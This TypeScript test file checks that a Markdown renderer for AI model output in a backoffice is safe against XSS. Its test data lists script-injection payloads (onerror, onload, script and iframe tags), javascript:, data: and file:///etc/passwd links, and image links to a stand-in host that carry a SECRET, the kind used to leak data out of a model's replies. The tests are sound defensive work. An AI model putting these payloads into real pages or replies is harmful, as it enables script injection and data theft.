import { describe, expect, test } from "bun:test";
import { html } from "htm/preact";
import type { VNode } from "preact";
import { Markdown, type MarkdownOptions, safeUrl } from "../../web/pages/conversations/markdown.ts";

const OPTIONS: MarkdownOptions = {
  cite: (n) => (n <= 2 ? (html`<button class="cite">${n}</button>` as VNode) : null),
  mayOpen: (url) => url.protocol !== "https:" || url.host === "intranet.acme.example",
};

type Node = { type: string; props: Record<string, unknown> };

/** Every element that would be made, in order, and the text that would be read. */
function render(text: string): { elements: Node[]; text: string } {
  const elements: Node[] = [];
  let read = "";
  const walk = (node: unknown): void => {
    if (Array.isArray(node)) node.forEach(walk);
    else if (typeof node === "string" || typeof node === "number") read += node;
    else if (node && typeof node === "object") {
      const { type, props } = node as { type: unknown; props: Record<string, unknown> };
      if (typeof type === "string") elements.push({ type, props });
      walk(props.children);
    }
  };
  walk(Markdown({ text, options: OPTIONS }));
  return { elements, text: read };
}

const types = (text: string) => new Set(render(text).elements.map((element) => element.type));

describe("text of a model in the backoffice", () => {
  test("is laid out: paragraphs, lists, tables, code, emphasis", () => {
    const { elements, text } = render(
      "# Limits\n\n**190** *euros* `x`\n\n1. one\n2. two\n\n| a | b |\n|---|---|\n| c | d |\n\n```\ncode\n```",
    );
    const made = elements.map((element) => element.type);
    expect(made).toEqual(
      expect.arrayContaining(["h3", "strong", "em", "code", "ol", "li", "table", "td", "pre"]),
    );
    expect(text).toContain("190 euros x");
  });

  test("turns [n] into a citation only where there is such a source, without a gap before it", () => {
    const { elements, text } = render("190 euros [1]. And [7].");
    expect(elements.filter((element) => element.type === "button")).toHaveLength(1);
    expect(text).toBe("190 euros1. And [7].");
  });

  test("keeps a citation a citation when the text defines a link of that name", () => {
    const { elements } = render("190 euros [1].\n\n[1]: https://evil.example/x");
    expect(elements.map((element) => element.type)).not.toContain("a");
    expect(elements.map((element) => element.type)).toContain("button");
  });

  test.each([
    "<img src=x onerror=__pwn=1>",
    "<svg onload=__pwn=1>",
    "text <script>__pwn=1</script> text",
    "<div><iframe src=//evil></iframe></div>",
  ])("shows HTML as the text it is: %s", (payload) => {
    const { elements, text } = render(payload);
    expect(elements.every((element) => ["div", "p"].includes(element.type))).toBe(true);
    expect(text).toBe(payload);
  });

  test("shows HTML literally at every step of a stream", () => {
    const payload = "Hello <img src=x onerror=__pwn=1> [a](javascript:alert(1))";
    for (let length = 1; length <= payload.length; length++) {
      const made = types(payload.slice(0, length));
      expect([...made].filter((type) => ["img", "script", "svg", "iframe", "a"].includes(type))).toEqual([]);
    }
  });

  test.each([
    "javascript:alert(1)",
    "JaVa\tscript:alert(1)",
    "data:text/html,<script>1</script>",
    "vbscript:x",
    "//evil.example",
    "&#106;avascript:alert(1)",
    " javascript:alert(1)",
    "/relative",
    "file:///etc/passwd",
  ])("makes no link to %s", (address) => {
    expect(types(`[x](${address})`)).not.toContain("a");
    expect(types(`[x](<${address}>)`)).not.toContain("a");
    expect(safeUrl(address)).toBeNull();
  });

  test.each(["http://a.example/", "https://a.example/", "mailto:fiona@acme.example", "tel:+41440000000"])(
    "may link to %s",
    (address) => {
      expect(safeUrl(address)?.href).toBe(address);
    },
  );

  test("opens links where the tenant vouches for the host, in a new tab that knows nothing", () => {
    const link = render("[page](https://intranet.acme.example/travel)").elements.find(
      ({ type }) => type === "a",
    );
    expect(link?.props).toMatchObject({
      href: "https://intranet.acme.example/travel",
      target: "_blank",
      rel: "noopener noreferrer nofollow",
    });
  });

  test("shows the whole address of any other link, without making it one", () => {
    const { elements, text } = render(
      "[page](https://canary.example/?d=SECRET) and <https://canary.example/SECRET>",
    );
    expect(elements.map((element) => element.type)).not.toContain("a");
    expect(text).toBe("page (https://canary.example/?d=SECRET) and https://canary.example/SECRET");
  });

  test.each([
    "![a](https://canary.example/?d=SECRET)",
    "![a][r]\n\n[r]: https://canary.example/",
    "![](data:image/png;base64,x)",
  ])("never loads an image: %s", (payload) => {
    const { elements, text } = render(payload);
    expect(elements.map((element) => element.type)).not.toContain("img");
    expect(text).toBe("[image blocked]");
  });

  test("shows diagrams and HTML fences as code", () => {
    for (const kind of ["mermaid", "html", "svg"]) {
      const { elements, text } = render(`\`\`\`${kind}\n<svg onload=x>\n\`\`\``);
      expect(elements.map((element) => element.type)).toEqual(["div", "pre", "code"]);
      expect(text).toBe("<svg onload=x>");
    }
  });

  test("refuses anything that is not a string", () => {
    const payload = { type: "img", props: { src: "x", onerror: "1" } } as unknown as string;
    expect(() => Markdown({ text: payload, options: OPTIONS })).toThrow("string");
  });
});
